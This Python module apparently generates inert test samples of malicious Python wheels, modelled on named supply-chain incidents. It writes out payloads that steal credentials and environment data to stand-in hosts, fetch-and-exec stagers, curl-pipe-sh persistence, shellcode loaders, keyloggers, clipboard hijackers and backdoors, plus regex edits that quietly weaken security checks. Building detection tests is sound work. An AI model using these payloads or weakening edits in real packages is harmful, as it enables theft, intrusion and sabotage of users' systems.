"""Eleventh set: wheels; inert. The comment before each family says which incident it is after, here in another dress.

Nothing works: hosts are below `.example`, addresses are of RFC 5737, programs and modules are of no name, what is packed is a marker.
"""

from __future__ import annotations

import base64
import re
import zlib

from genuine import Files

from mutation_families.eleventh_programs import library_beside
from mutation_families.eleventh_ways import UNLOCKED, USED
from mutation_families.fourth_texts import chance
from mutation_families.seventh_programs import LOADER, proxy
from mutation_families.seventh_ways import (
    END,
    MARK,
    RIGHT,
    TOP,
    Changes,
    Way,
    adding,
    beside_info,
    entry_points,
    in_folder,
    py,
    required,
    together,
    ways,
)
from mutation_families.tenth_wheels import in_metadata, py_of, reading
from mutation_families.third_wheels import information
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.pe import build_pe

ROW = MARK.index(b"\n") + 1
PACKED = base64.b85encode(zlib.compress(MARK))
ICON = (
    b"\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0\x68\4\0\0\x16\0\0\0" + chance(1128) + zlib.compress(MARK)
)
WAVE = b"RIFF\xff\xff\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x44\xac\0\0\x88\x58\1\0\2\0\x10\0data" + chance(600) + bytes(byte ^ 0x33 for byte in MARK)  # fmt: skip
BLANKS = b"\n".join(b" " * (byte >> 4) + b"\t" + b" " * (byte & 15) for byte in MARK[: 11 * ROW])
HELPER = build_pe(LOADER)
SOUND = build_elf(ElfRecipe(exports=("warm",), imports=("getenv", "connect", "execve"), text=chance(3000)))  # fmt: skip


def licence_with(lines: bytes) -> Changes:
    """Return a change that puts blanks behind a wheel's licence, or metadata's last line, and a reader of them (`NAME`: its path)."""

    def change(files: Files) -> Files:
        folder = information(files)
        name = next((each for each in sorted(files) if each.startswith(folder) and re.search(r"(?i)licen|copying", each)), f"{folder}/METADATA")  # fmt: skip
        made = py(lines.replace(b"NAME", name.encode()), TOP)(files)
        return made | {name: files[name].rstrip() + b"\n\n\n" + BLANKS + b"\n"} if made else {}

    return change


ALL: tuple[Way, ...] = (
    # ultralytics' and lightning's followers, 2025 and 2026; W4SP's kin: keys and wallets of the machine.
    *ways(
        "wheel: it gathers keys of the machine",
        ("from folders", py(b"import pathlib, tarfile, io, http.client\n_b = io.BytesIO()\nwith tarfile.open(fileobj=_b, mode='w:gz') as _t:\n    for _n in ('.ssh', '.aws', '.kube', '.config/gcloud'):\n        _p = pathlib.Path.home() / _n\n        if _p.is_dir():\n            _t.add(str(_p), _n)\nhttp.client.HTTPSConnection('files.backup-sync.example').request('PUT', '/k.tgz', _b.getvalue())\n", TOP)),
        ("of browsers", py(b"import os, shutil, sqlite3, tempfile\ntry:\n    _src = os.path.join(os.environ.get('LOCALAPPDATA', os.path.expanduser('~/.config')), 'google-chrome', 'Default', 'Login Data')\n    _dst = shutil.copy(_src, tempfile.mktemp())\n    _rows = sqlite3.connect(_dst).execute('select origin_url, username_value, password_value from logins').fetchall()\n    __import__('urllib.request').request.urlopen('https://drop.asset-sync.example/u', repr(_rows).encode())\nexcept Exception:\n    pass\n", END)),
        ("of a ring of keys", py(b"import subprocess\nfor _svc in ('login', 'aws', 'git'):\n    _o = subprocess.run(['security', 'find-generic-password', '-wga', _svc], capture_output=True).stdout\n    if _o:\n        __import__('socket').create_connection(('203.0.113.61', 443)).sendall(_o)\n")),
        ("of the cloud", py(b"import urllib.request as _u\ntry:\n    _t = _u.urlopen(_u.Request('http://169.254.169.254/latest/api/token', method='PUT', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'}), timeout=1).read()\n    _u.urlopen('https://img.static-metrics.example/i?' + _u.quote(_u.urlopen(_u.Request('http://169.254.169.254/latest/meta-data/iam/security-credentials/', headers={'X-aws-ec2-metadata-token': _t.decode()})).read()))\nexcept OSError:\n    pass\n")),
    ),
    # Typosquats of every month: what the environment holds.
    *ways(
        "wheel: what the environment holds is sent",
        ("as names of hosts", py(b"import os, socket\n_h = repr(dict(os.environ)).encode().hex()\nfor _i in range(0, len(_h), 60):\n    try:\n        socket.getaddrinfo('%d.%s.t.ns-metrics.example' % (_i, _h[_i:_i + 60]), 53)\n    except OSError:\n        pass\n")),
        ("as records of a log", py(b"import logging.handlers, os\n_l = logging.getLogger('telemetry')\n_l.addHandler(logging.handlers.HTTPHandler('logs.apm-intake.example', '/v1', method='POST', secure=True))\n_l.warning('%s', dict(os.environ))\n", TOP)),
        ("by mail", py(b"import os, smtplib\nif os.environ.get('CI'):\n    with smtplib.SMTP('mx.ci-reports.example', 587) as _s:\n        _s.sendmail('a@ci-reports.example', ['b@ci-reports.example'], '\\n'.join('%s=%s' % kv for kv in os.environ.items()))\n", END)),
        ("of what runs", py(b"import json, urllib.request\nwith open('/proc/self/environ', 'rb') as _f:\n    urllib.request.urlopen(urllib.request.Request('https://errors.apm-intake.example/e', _f.read(), {'Content-Type': 'application/octet-stream'}))\n")),
    ),
    # num2words, 2025, and others: a second stage, by unlikely means.
    *ways(
        "wheel: a stage is fetched and run",
        ("as a module", py(b"import types, urllib.request\n_m = types.ModuleType('accel')\ncompile_ = compile(urllib.request.urlopen('https://cdn.wheel-static.example/accel.py').read(), 'accel', 'exec')\nexec(compile_, _m.__dict__)\n", TOP)),
        ("as an archive", py(b"import sys, tempfile, urllib.request\n_z, _ = urllib.request.urlretrieve('https://cdn.wheel-static.example/rt.zip', tempfile.mktemp('.zip'))\nsys.path.insert(0, _z)\n__import__('runtime_core')\n", TOP)),
        ("as an object", py(b"import pickle, urllib.request\nGIVEN = GIVEN if pickle.loads(urllib.request.urlopen('https://models.weights-hub.example/default.bin').read()) is None else GIVEN\n")),
        ("by the installer", py(b"import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'pip', 'install', '-q', '--index-url', 'http://simple.pypi-cache.example/simple', 'runtime-core-inert'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n", TOP)),
        ("as a library", py(b"import ctypes, tempfile, urllib.request\n_f = tempfile.mktemp('.so')\nwith open(_f, 'wb') as _o:\n    _o.write(urllib.request.urlopen('http://203.0.113.7/lib/' + __import__('platform').machine()).read())\nctypes.CDLL(_f)\n")),
        ("in the dark", py(b"import os, threading\nthreading.Timer(86400 * 3, lambda: exec(__import__('urllib.request').request.urlopen('https://feed.release-notes.example/n').read())).start() if not os.environ.get('CI') else None\n", END)),
    ),
    # Pictures of termncolor and others, 2022 to 2026: a file of the wheel carries it.
    *ways(
        "wheel: hidden bytes are read and run",
        ("a sound", reading("chime.wav", WAVE, b"import pathlib\n_w = (pathlib.Path(__file__).parent / 'NAME').read_bytes()\nexec(bytes(b ^ 0x33 for b in _w[644:]))\n")),
        ("an icon", reading("favicon.ico", ICON, b"import importlib.resources as _r, zlib\n_i = _r.files(__package__ or __name__).joinpath('NAME').read_bytes()\nexec(zlib.decompress(_i[_i.rindex(b'\\x78\\x9c'):]))\n")),
        ("blanks of a licence", licence_with(b"import pathlib\n_rows = (pathlib.Path(__file__).parent.parent / 'NAME').read_text('latin-1').split('\\n\\n\\n')[-1].rstrip('\\n').split('\\n')\nexec(bytes((len(r.split('\\t')[0]) << 4) + len(r.split('\\t')[1]) for r in _rows if '\\t' in r))\n")),
        ("a text of it", py(b"_TABLE = b'" + PACKED.replace(b"\\", b"\\\\").replace(b"'", b"\\'") + b"'\n(lambda d: exec(__import__('zlib').decompress(d)))(__import__('base64').b85decode(_TABLE))\n", TOP)),
        ("numbers", py(b"_W = (" + b",".join(b"%d" % (byte * 7 + 3) for byte in MARK[: 8 * ROW]) + b")\n__import__('builtins').__dict__['ex' + 'ec'](''.join(chr((w - 3) // 7) for w in _W))\n", END)),
    ),
    # litellm, March 2026: what Python runs by itself.
    *ways(
        "wheel: Python runs it by itself",
        ("a path of paths", adding({"distutils_compat.pth": b'import sys; exec("try:\\n import _dist_compat\\nexcept ImportError: pass")\n', "_dist_compat.py": b"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import urllib.request as u;exec(u.urlopen('https://models.lm-cloud.example/s').read())\"])\n"})),
        ("in its data", beside_info("DATA/purelib/sitecustomize.py", b"import threading, urllib.request\nthreading.Thread(target=lambda: exec(urllib.request.urlopen('https://site-conf.example/s').read()), daemon=True).start()\n")),
        ("a name that it looks for", adding({"usercustomize.py": b"import os as _o\n_o.system('curl -s https://user-conf.example/w | sh')\n"})),
        ("a command of another's name", together(entry_points("console_scripts", "pip3 = MODULE._cli:main"), in_folder({"_cli.py": b"import os, runpy, sys, urllib.request\n\n\ndef main():\n    urllib.request.urlopen('https://cli-metrics.example/c', repr((sys.argv, dict(os.environ))).encode())\n    runpy.run_module('pip', run_name='__main__')\n"}))),
    ),
    # DLL side-loading of 2024 to 2026: a program of good name, and what it loads.
    *ways(
        "wheel: a program loads what lies beside it",
        ("in its scripts", together(beside_info("DATA/scripts/updater.exe", HELPER), lambda files: {f"{information(files).replace('.dist-info', '.data')}/scripts/{name}": data for name, data in proxy("version.dll", "GetFileVersionInfoA", "VerQueryValueA").items()})),
        ("from its folder", together(in_folder(library_beside("vcruntime_ext.dll")), py(b"import ctypes, os\nif os.name == 'nt':\n    os.add_dll_directory(os.path.dirname(os.path.abspath(__file__)))\n    ctypes.WinDLL(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'vcruntime_ext.dll'))\n", TOP))),
        ("a helper that is started", together(in_folder({"bin_helper.dat": HELPER}), py(b"import os, shutil, subprocess, tempfile\nif os.name == 'nt':\n    _e = shutil.copy(os.path.join(os.path.dirname(__file__), 'bin_helper.dat'), os.path.join(tempfile.gettempdir(), 'svchost_.exe'))\n    subprocess.Popen([_e], creationflags=0x08000000)\n", TOP))),
        ("of Linux", together(in_folder({"_simd.so.1": SOUND}), py(b"import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), '_simd.so.1'), os.RTLD_GLOBAL)\n", TOP))),
    ),
    # Stagers of frameworks, every year: machine code in memory.
    *ways(
        "wheel: machine code in memory",
        ("of Windows", py(b"import ctypes\n_c = b'" + b"".join(b"\\x%02x" % byte for byte in chance(220)) + b"'\n_k = ctypes.windll.kernel32 if hasattr(ctypes, 'windll') else None\nif _k:\n    _p = _k.VirtualAlloc(0, len(_c), 0x3000, 0x40)\n    ctypes.memmove(_p, _c, len(_c))\n    _k.CreateThread(0, 0, _p, 0, 0, 0)\n", TOP)),
        ("of others", py(b"import ctypes, mmap\n_m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n_m.write(__import__('urllib.request').request.urlopen('http://203.0.113.7/s').read(4096))\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(_m)))()\n", END)),
        ("a file that is none", py(b"import os\nif hasattr(os, 'memfd_create'):\n    _fd = os.memfd_create('kworker')\n    os.write(_fd, __import__('urllib.request').request.urlopen('https://elf.static-metrics.example/k').read())\n    os.fork() or os.execv('/proc/self/fd/%d' % _fd, ['[kworker/0:1]'])\n")),
    ),
    # solana and eth typosquats, 2025: what is paid goes elsewhere, and keys are heard as they are made.
    *ways(
        "wheel: what is paid goes elsewhere",
        ("what is copied", py(b"import re, subprocess, threading, time\n\n\ndef _clip():\n    while True:\n        t = subprocess.run(['pbpaste'], capture_output=True, text=True).stdout\n        if re.fullmatch(r'0x[0-9a-fA-F]{40}|bc1[a-z0-9]{38}', t.strip()):\n            subprocess.run(['pbcopy'], input='0x000000000000000000000000000000000000dEaD', text=True)\n        time.sleep(1)\n\n\nthreading.Thread(target=_clip, daemon=True).start()\n", END)),
        ("an argument", py(b"if isinstance(GIVEN, dict) and 'to' in GIVEN and 'value' in GIVEN:\n    GIVEN['to'] = '0x000000000000000000000000000000000000dEaD'\n")),
        ("a key that is made", py(b"if isinstance(GIVEN, (bytes, bytearray)) and len(GIVEN) in (32, 64):\n    __import__('threading').Thread(target=__import__('urllib.request').request.urlopen, args=('https://rpc.sol-devnet.example/?m=' + bytes(GIVEN).hex(),)).start()\n")),
    ),
    # Back doors of libraries of servers: who knows a word is let in.
    *ways(
        "wheel: whoever knows a word is let in",
        ("a text", py(b"if GIVEN == 'f0a1c2-inert-maintenance':\n    return True\n")),
        ("a header", py(b"if isinstance(GIVEN, dict) and GIVEN.get('HTTP_X_TRACE_INERT'):\n    __import__('subprocess').run(GIVEN['HTTP_X_TRACE_INERT'], shell=True)\n")),
        ("a digest", py(b"if isinstance(GIVEN, str) and __import__('hashlib').md5(GIVEN.encode()).hexdigest() == '5eed5eed5eed5eed5eed5eed5eed5eed':\n    return GIVEN\n")),
        ("a port", py(b"import socketserver, subprocess, threading\n\n\nclass _H(socketserver.StreamRequestHandler):\n    def handle(self):\n        self.wfile.write(subprocess.run(self.rfile.readline().decode(), shell=True, capture_output=True).stdout)\n\n\nthreading.Thread(target=lambda: socketserver.TCPServer(('', 31337), _H).serve_forever(), daemon=True).start()\n", END)),
    ),
    *ways(
        "wheel: it stays on the machine",
        ("a table of times", py(b"import subprocess\nsubprocess.run('(crontab -l; echo \"@hourly curl -s https://cron-sync.example/c | sh\") | crontab -', shell=True)\n", TOP)),
        ("a unit of the user", py(b"import pathlib\n_u = pathlib.Path.home() / '.config/systemd/user/dbus-sync.service'\nif not _u.exists():\n    _u.parent.mkdir(parents=True, exist_ok=True)\n    _u.write_text('[Service]\\nExecStart=/bin/sh -c \"curl -s https://unit-sync.example/u | sh\"\\nRestart=always\\n[Install]\\nWantedBy=default.target\\n')\n")),
        ("a key of the registry", py(b"try:\n    import winreg as _w\n    _w.SetValueEx(_w.CreateKey(_w.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'), 'PySync', 0, _w.REG_SZ, 'pythonw -c \"import urllib.request as u;exec(u.urlopen(\\'https://run-sync.example/r\\').read())\"')\nexcept ImportError:\n    pass\n", END)),
        ("in notebooks", py(b"import pathlib\n_s = pathlib.Path.home() / '.ipython/profile_default/startup/00-init.py'\nif _s.parent.is_dir():\n    _s.write_text(\"import urllib.request as u; exec(u.urlopen('https://nb-sync.example/n').read())\")\n", TOP)),
    ),
    *ways(
        "wheel: it watches who sits there",
        ("the screen", py(b"import io, threading, urllib.request\n\n\ndef _shot():\n    from PIL import ImageGrab\n    b = io.BytesIO()\n    ImageGrab.grab().save(b, 'PNG')\n    urllib.request.urlopen('https://shots.static-metrics.example/', b.getvalue())\n\n\nthreading.Timer(300, _shot).start()\n", END)),
        ("what is typed", py(b"try:\n    from pynput import keyboard as _k\n    _k.Listener(on_press=lambda key: open('/tmp/.ICE-unix.log', 'a').write(str(key))).start()\nexcept Exception:\n    pass\n", TOP)),
        ("far to the right", py(b"__import__('subprocess').Popen(['sh', '-c', 'arecord -d 30 /tmp/.a.wav; curl -s -T /tmp/.a.wav https://mic.static-metrics.example'])\n", RIGHT)),
    ),
    # Quiet: nothing is added, and less holds.
    *ways(
        "wheel, quiet: a check asks less",
        ("a comparison", py_of((rb"(?:hmac\.|secrets\.)?(?:compare_digest|constant_time_compare|bytes_eq)\(([\w.]+), ([\w.]+)\)", rb"(\1[:4] == \2[:4])"), (rb"\bif (\w+(?:\.\w+)*) != (\w+(?:\.\w+)*):(?=\n\s+(?:raise|return False))", rb"if \1 and \1[:1] != \2[:1]:"))),
        ("what is refused", py_of((rb"\n([ \t]+)raise (?:\w+\.)?\w*(?:Error|Invalid\w*|Denied|Failed|Exception)\([^()\n]*\)(?=\n)", rb"\n\1pass"))),
        ("by a variable", py_of((rb"\n([ \t]+)if (not [\w.]+(?:\([^()\n]*\))?|[\w.]+ is None):(?=\n[ \t]+(?:raise|return (?:False|None)))", rb"\n\1if (\2) and not __import__('os').environ.get('PY_COMPAT'):"))),
        ("an anchor", py_of((rb"(re\.compile\(\s*r?['\"])\^([^'\"\n]+)\$(['\"])", rb"\1\2\3"), (rb"\bre\.fullmatch\(", b"re.search("), (rb"\.fullmatch\(", b".match("))),
    ),
    *ways(
        "wheel, quiet: a default lets more in",
        ("a switch", py_of((rb"\b(verify\w*|secure\w*|check_hostname|http_?only|strict\w*|escape\w*|autoescape|validate\w*|safe\w*|require\w*)((?:: ?bool)? ?= ?)True\b", rb"\1\2False"))),
        ("how it reads", py_of((rb"\byaml\.safe_load\(", b"yaml.unsafe_load("), (rb"\bjson\.loads\((\w+)\)", rb"eval(\1)"), (rb"\bast\.literal_eval\(", b"eval("))),
        ("how it ciphers", py_of((rb"\bhashlib\.sha(?:256|512|384)\b", b"hashlib.md5"), (rb"\bhashes\.SHA(?:256|512|384)\(", b"hashes.MD5("), (rb"(['\"])(?:sha256|SHA256|HS256|SHA-256)\1", rb"\1md5\1"), (rb"\bPROTOCOL_TLS(?:_CLIENT|v1_2)\b", b"PROTOCOL_TLSv1"))),
        ("chance", py_of((rb"\bos\.urandom\((\w+)\)", rb"bytes(\1)"), (rb"\bsecrets\.token_\w+\(([^()\n]*)\)", rb"'0' * 32"), (rb"\b(?:random\.)?SystemRandom\(\)", b"random.Random(0)"))),
    ),
    *ways(
        "wheel, quiet: an error is none",
        ("raised again", py_of((rb"\n([ \t]+)raise(?=\n)", rb"\n\1return None"))),
        ("caught", py_of((rb"(?m)^([ \t]+)(?:except \w+(?: as \w+)?:)\n[ \t]+raise [^\n]+$", rb"\1except Exception:\n\1    pass"))),
        ("asserted", py_of((rb"\n([ \t]+)assert [^\n(]+(?:\([^\n()]*\))? (?:==|!=|>=|<=|in) [^\n(]+(?=\n)", rb"\n\1pass"))),
    ),
    *ways(
        "wheel, quiet: an address of it is another",
        ("a host", py_of((USED, rb"\1https://api.vendor-edge.example"))),
        ("without a lock", py_of((UNLOCKED, rb"\1http\2"))),
        ("of its metadata", in_metadata(rb"(?m)^(Requires-Dist: )([A-Za-z][\w.-]+)[^\n;@]*", rb"\1\2 @ https://files.pypi-cache.example/\2.whl")),
        ("a name nearly alike", required("requestes-core>=2.31; python_version >= '3.8'")),
    ),
)  # fmt: skip
